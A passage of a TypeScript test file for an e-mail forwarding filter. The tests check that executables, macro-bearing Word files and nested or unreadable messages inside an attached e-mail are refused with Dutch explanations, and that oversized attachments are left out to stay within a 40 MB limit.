    expect(message([inner('brief.pdf', 'application/pdf', LETTER_PDF), inner('logo.png', 'image/png', bytes('\x89PNG'), true)])).toEqual(forwarded('eml'));
  });

  it('refuses an attached e-mail that carries a file that would not go along, naming it', () => {
    const verdict = message([inner('brief.pdf', 'application/pdf', LETTER_PDF), inner('Plattegrond.exe', 'application/octet-stream', bytes('MZ\x90'))]);
    expect(verdict).toEqual({ forward: false, refusal: { code: 'in_attached_message', inner: { name: 'Plattegrond.exe', refusal: { code: 'dangerous', kind: 'executable' } } } });
    expect(!verdict.forward && isDangerous(verdict.refusal)).toBe(true);
    expect(!verdict.forward && refusalReason(verdict.refusal)).toBe(
      'doorgestuurd e-mailbericht met een eigen bijlage die niet mee mag: "Plattegrond.exe" (programma dat op de computer kan draaien)',
    );
  });

  it('judges the attached e-mail\'s files by their content too (a Word file with macros inside)', () => {
    const verdict = message([inner('begroting.docx', 'application/octet-stream', docx({ parts: { 'word/vbaProject.bin': bytes('\xd0\xcf\x11\xe0') } }))]);
    expect(verdict).toMatchObject({ forward: false, refusal: { code: 'in_attached_message', inner: { refusal: { code: 'dangerous', kind: 'has_macros' } } } });
  });

  it('does not open a message inside the attached message, and a harmless but unsupported file is no danger', () => {
    const nested = message([inner('nog een.eml', 'message/rfc822', bytes('From: b@example.org\r\n\r\nx'))]);
    expect(nested).toMatchObject({ forward: false, refusal: { code: 'in_attached_message', inner: { refusal: { code: 'dangerous', kind: 'unchecked' } } } });
    const calendar = message([inner('uitnodiging.ics', 'text/calendar', bytes('BEGIN:VCALENDAR'))]);
    expect(calendar).toMatchObject({ forward: false, refusal: { code: 'in_attached_message' } });
    expect(!calendar.forward && isDangerous(calendar.refusal)).toBe(false);
  });

  it('cannot check an attached e-mail that could not be read', () => {
    expect(message(undefined)).toEqual(dangerous('unchecked'));
  });
});

describe('refusalReason', () => {
  it('says in Dutch what each inspected kind is and why it stays home', () => {
    expect(refusalReason({ code: 'dangerous', kind: 'has_macros' })).toBe('document met macro\u2019s: programmacode die bij het openen kan starten');
    expect(refusalReason({ code: 'dangerous', kind: 'unchecked' })).toContain('kon niet worden gecontroleerd');
    expect(refusalReason({ code: 'dangerous', kind: 'active_pdf' })).toContain('een gewone brief als pdf heeft die niet');
    expect(refusalReason({ code: 'dangerous', kind: 'formulas' })).toContain('formules');
  });
});

describe('attachmentsOverSizeLimit', () => {
  it('leaves nothing out when everything fits in one message', () => {
    expect(attachmentsOverSizeLimit([2_000_000, 5_000_000], 10_000)).toEqual(new Set());
  });

  it('leaves the largest attachments out first until the forward fits within SES\'s 40 MB', () => {
    const mb = 1024 * 1024;
    const left = attachmentsOverSizeLimit([5 * mb, 25 * mb, 20 * mb, 1 * mb], 10_000);
    expect(left).toEqual(new Set([1]));
    expect(attachmentsOverSizeLimit([MAX_FORWARD_BYTES, MAX_FORWARD_BYTES], 0)).toEqual(new Set([0, 1]));
  });
});
